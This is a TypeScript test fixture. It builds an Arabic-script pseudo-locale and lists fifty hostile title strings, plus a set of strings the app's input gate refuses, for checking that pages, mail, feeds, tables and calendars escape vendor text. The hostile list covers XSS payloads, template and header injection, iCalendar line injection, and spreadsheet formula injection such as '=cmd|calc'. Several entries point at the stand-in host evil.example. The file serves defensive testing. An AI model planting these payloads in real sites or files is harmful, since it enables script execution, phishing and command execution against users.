import { CATALOGUES, type Trial } from '../../functions/web/site/locale.ts';

/** Where the letters of the Latin alphabet go: to Arabic ones, so that what is not from a catalogue stands out and lines run leftwards. */
const LETTERS = 'ابجدهوزحطيكلمنسعفصقرشتثخذض';

/** A text of the catalogue as one in a language written from right to left; the slots and the numbers stay. */
const pseudoText = (text: string) =>
  text
    .split(/(\{\{[a-z]+\}\}|&[a-z]+;)/i)
    .map((part, index) =>
      index % 2 === 1 ? part : part.replaceAll(/[a-z]/gi, (letter) => LETTERS[letter.toLowerCase().charCodeAt(0) - 97] ?? letter),
    )
    .join('');

/** The same for a whole catalogue. */
export const pseudo = <T>(words: T): T =>
  (typeof words === 'string'
    ? pseudoText(words)
    : Object.fromEntries(Object.entries(words as object).map(([name, value]) => [name, pseudo(value)]))) as T;

/** A made-up language, generated from the English catalogue, with the dates, numbers and direction of Arabic. */
export const PSEUDO: Trial = { language: 'ar-xb', words: pseudo(CATALOGUES.en) };

/**
 * Fifty texts that a vendor could send and a careless page, mail, feed, table or calendar would take for something else than text. All
 * of them pass the gate's own rules for titles: what it refuses (control characters, bidirectional overrides, zero width) is in
 * {@link REFUSED_TEXTS}.
 */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.example></script>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus=alert(1) autofocus '",
  '" style="position:fixed;inset:0" x="',
  '</textarea></title></style><b>bold</b>',
  '</bdi></p></main><h1>Approved</h1>',
  '</desc></title></svg><rect/>',
  '<!-- -->',
  '--><h1>x</h1><!--',
  '<![CDATA[x]]>',
  ']]><x/>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>&b;',
  '</title><entry><id>x</id></entry>',
  '&lt;script&gt;',
  '&amp;&#60;b&#62;&quot;',
  '&nbsp;&ZeroWidthSpace;',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<meta http-equiv=refresh content=0>',
  '<form action=//evil.example><button>Sign</button></form>',
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '{{title}} {{n}} {{body}} {{when}} {{vendor}}',
  '{{constructor.constructor("alert(1)")()}}',
  `$${'{process.env.PATH}'}`,
  '$& $1 $` $$',
  '%s %d %0d%0aSet-Cookie: x=1',
  '\\n,; \\; \\,',
  'BEGIN:VEVENT',
  'END:VCALENDAR',
  'x\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:y',
  'DTSTART;VALUE=DATE:19700101',
  '=HYPERLINK("https://evil.example","x")',
  '+1;=cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(A1)',
  '＝HYPERLINK("https://evil.example")',
  '＠SUM(A1)',
  '"quoted","cells",\'one\'',
  '**bold** [link](javascript:alert(1)) ![x](//evil.example)',
  '# Approved by the council',
  'אבג שלום עולם',
  'مرحبا (abc) 123',
  '👩‍⚖️'.replaceAll('\u200d', ''),
  'ＡＢＣ ｆｕｌｌ ｗｉｄｔｈ',
  'a'.repeat(190),
] as const;

/** What no title may hold: refused with 400 before it is ever an event. */
export const REFUSED_TEXTS = [
  'nul\u0000nul',
  'line\r\nBEGIN:VEVENT',
  'tab\there',
  'over\u202eride',
  'iso\u2066late',
  'zero\u200bwidth',
  'mark\ufeff',
  '\ud800 alone',
  '   ',
  'раypal',
] as const;

/** A word that no line can hold, for what may be longer than a title. */
export const LONG_WORD = 'x'.repeat(10_000);
